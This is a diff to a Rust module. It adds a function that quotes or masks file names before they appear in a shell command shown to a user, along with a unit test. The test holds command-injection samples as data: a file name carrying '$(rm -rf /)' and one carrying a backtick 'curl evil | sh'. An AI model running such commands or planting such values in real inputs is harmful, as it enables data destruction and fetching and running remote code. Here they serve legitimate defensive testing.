@@ -67,9 +67,32 @@ pub fn short(text: &str, max: usize) -> String {
     clean.trim().to_owned()
 }
 
+/// Returns a name as one word of a command that a person is told to run. One that could be more than a word, or end the
+/// command's own marks, is not in the command: `FILE` stands for it, and the message says which is meant.
+pub fn word(name: &str) -> Cow<'_, str> {
+    let plain = |c: char| c.is_alphanumeric() || "-_./=:,@%+".contains(c);
+    if !name.is_empty() && !name.starts_with('-') && name.chars().all(plain) {
+        Cow::Borrowed(name)
+    } else if name.is_empty() || name.contains(|c| steers(c) || matches!(c, '\'' | '`' | '\n' | '\t')) {
+        Cow::Borrowed("FILE")
+    } else {
+        Cow::Owned(format!("'{name}'"))
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a13_no_name_adds_to_a_command_that_is_told() {
+        assert_eq!(word("/srv/p/web-1.x/é"), "/srv/p/web-1.x/é");
+        assert_eq!(word("/srv/my site; $(rm -rf /)"), "'/srv/my site; $(rm -rf /)'");
+        for odd in ["", "a`; curl evil | sh; `", "it's", "a\nb", "a\u{202e}b", "a\u{1b}[2J"] {
+            assert_eq!(word(odd), "FILE", "{odd:?}");
+        }
+        assert_eq!(word("-rf"), "'-rf'");
+    }
 
     #[test]
     fn a13_what_steers_is_written_out_and_all_else_stays() {
